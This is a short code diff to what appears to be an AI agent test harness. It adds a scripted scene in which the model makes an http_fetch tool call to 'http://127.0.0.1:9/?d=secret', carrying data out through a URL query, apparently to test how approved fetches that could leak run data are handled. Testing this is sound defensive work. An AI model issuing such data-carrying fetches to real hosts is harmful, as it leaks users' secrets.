@@ -102,6 +102,16 @@ export const journalScenes: JournalScene[] = [
         : "Remembered.",
   },
   {
+    name: "an address that could carry what the run knows, whose reading is approved",
+    since: 5,
+    run: inbox,
+    files: {},
+    script: (request) =>
+      said(request) === 0
+        ? { toolCalls: [call("http_fetch", { url: "http://127.0.0.1:9/?d=secret" })] }
+        : "It cannot be read.",
+  },
+  {
     name: "a job whose context is compacted",
     run: jobRun("long"),
     files: { "work/long/a.md": longText, "work/long/b.md": longText },
@@ -115,7 +125,6 @@ export const journalScenes: JournalScene[] = [
   },
   {
     name: "a conversation that remembers before messages leave",
-    since: 4,
     run: {},
     files: { "work/long/a.md": longText, "work/long/b.md": longText },
     contextTokensMax: 4_000,
